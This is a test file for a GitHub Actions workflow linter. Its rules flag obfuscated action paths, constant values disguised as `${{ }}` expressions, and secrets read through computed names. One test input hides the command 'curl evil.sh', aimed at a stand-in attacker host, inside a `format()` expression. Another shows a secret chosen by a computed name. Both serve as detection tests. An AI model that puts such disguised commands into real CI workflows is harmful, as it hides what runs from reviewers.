import { describe, expect, it } from "vitest";
import { compile, job, run, workflow } from "../../src/index.js";
import { lintText } from "../../src/runs/lint-files.js";
import { yaml, yamlRuleTester } from "./yaml-rule-tester.js";

const steps = (...lines: string[]) => yaml("on: push", "permissions: {}", "jobs:", "  build:", "    runs-on: ubuntu-latest", "    steps:", ...lines.map((l) => `      ${l}`));
const SHA = "0057852bfaa89a56745cba8c7296529d2fc39830";

yamlRuleTester("obfuscation", {
  valid: [
    { name: "a plain action path", yaml: steps(`- uses: actions/cache/restore@${SHA} # v4.3.0`, "  with:", "    path: ~/.cache", "    key: k") },
    { name: "a local action", yaml: steps("- uses: ./.github/actions/setup") },
    { name: "expressions that read contexts", yaml: steps("- run: echo \"$TITLE\"", "  env:", "    TITLE: ${{ format('{0}-{1}', github.ref_name, github.sha) }}") },
    { name: "a literal `${{` written as an expression", yaml: steps("- run: echo \"${{ '${{' }} is how an expression starts\"") },
    { name: "a list written as JSON", yaml: steps("- run: echo \"$X\"", "  env:", "    X: ${{ contains(fromJSON('[\"push\", \"schedule\"]'), github.event_name) }}") },
    { name: "a literal condition is if-constant's", yaml: steps("- run: make", "  if: ${{ false }}") },
  ],
  invalid: [
    {
      name: "`..`, `.` and empty components",
      yaml: steps(`- uses: actions/cache/save/../restore@${SHA}`, "  with:", "    path: ~/.cache", "    key: k", "- uses: github/codeql-action/./init@v3", "- uses: actions/checkout/@v4"),
      errors: [
        { severity: "warning", at: "7:9", path: "jobs.build.steps[0].uses", message: `"actions/cache/save/../restore@${SHA}" has \`..\` in its path: it names actions/cache/restore in a way a reader does not see at a glance`, hint: `write the path plainly: actions/cache/restore@${SHA}` },
        { severity: "warning", at: "11:9", path: "jobs.build.steps[1].uses", message: "\"github/codeql-action/./init@v3\" has `.` in its path: it names github/codeql-action/init in a way a reader does not see at a glance", hint: "write the path plainly: github/codeql-action/init@v3" },
        { severity: "warning", at: "12:9", path: "jobs.build.steps[2].uses", message: "\"actions/checkout/@v4\" has an empty component (`//` or a trailing `/`) in its path: it names actions/checkout in a way a reader does not see at a glance", hint: "write the path plainly: actions/checkout@v4" },
      ],
    },
    {
      name: "a whole expression that is a constant",
      yaml: steps("- run: ${{ format('{0} {1}', 'curl', 'evil.sh') }}", "- run: echo ${{ 'a' }}"),
      errors: [
        { severity: "warning", at: "7:9", path: "jobs.build.steps[0].run", message: "`format('{0} {1}', 'curl', 'evil.sh')` is always 'curl evil.sh': written as an expression, the value is hidden from a reader", hint: "write 'curl evil.sh' in its place" },
        { severity: "warning", at: "8:9", path: "jobs.build.steps[1].run", message: "`${{ 'a' }}` is the constant 'a', written as an expression", hint: "write `a` in its place" },
      ],
    },
    {
      name: "a constant part of a larger expression, and a constant condition",
      yaml: steps("- run: echo \"$X\"", "  env:", "    X: ${{ format('{0}/{1}', github.sha, format('{0}', 'x')) }}", "- run: make", "  if: 1 > 2 || github.event_name == 'push' && !(1 != 1)"),
      errors: [
        { severity: "warning", at: "9:11", path: "jobs.build.steps[0].env.X", message: "`format('{0}', 'x')` in `${{ format('{0}/{1}', github.sha, format('{0}', 'x')) }}` is always 'x': written as an expression, the value is hidden from a reader", hint: "write 'x' in its place" },
        { severity: "warning", at: "11:9", path: "jobs.build.steps[1].if", message: "`1 > 2` in `${{ 1 > 2 || github.event_name == 'push' && !(1 != 1) }}` is always false: written as an expression, the value is hidden from a reader", hint: "write false in its place" },
        { severity: "warning", at: "11:9", path: "jobs.build.steps[1].if", message: "`!(1 != 1)` in `${{ 1 > 2 || github.event_name == 'push' && !(1 != 1) }}` is always true: written as an expression, the value is hidden from a reader", hint: "write true in its place" },
      ],
    },
  ],
});

yamlRuleTester("computed-index", {
  valid: [
    { name: "named properties and filters", yaml: steps("- run: ./deploy.sh", "  env:", "    TOKEN: ${{ secrets.PROD_TOKEN }}", "    NAMES: ${{ join(github.event.commits.*.message, ' ') }}", "    REF: ${{ github['ref_name'] }}") },
  ],
  invalid: [
    {
      name: "a secret chosen by a computed name",
      yaml: steps("- run: ./deploy.sh", "  env:", "    TOKEN: ${{ secrets[format('{0}_TOKEN', github.ref_name)] }}"),
      errors: [{ severity: "warning", at: "9:11", path: "jobs.build.steps[0].env.TOKEN", message: "`${{ secrets[format('{0}_TOKEN', github.ref_name)] }}` reads a property of secrets chosen by a computed name: a reader cannot tell which one", hint: "name the property (`secrets.PROD_TOKEN`), or choose between named ones with a condition" }],
    },
  ],
});

describe("obfuscation is a YAML rule", () => {
  it("reports a constant expression in YAML, not in a compiled workflows.ts", async () => {
    const text = steps("- run: echo ${{ 'a' }}");
    expect((await lintText(text, "ci.yml")).map((d) => d.rule)).toContain("obfuscation");
    const { diagnostics } = await compile([workflow("ci", { on: "push", jobs: [job("build", { "runs-on": "ubuntu-latest", steps: [run("echo ${{ 'a' }}")] })] })]);
    expect(diagnostics.filter((d) => d.rule === "obfuscation")).toEqual([]);
  });
});
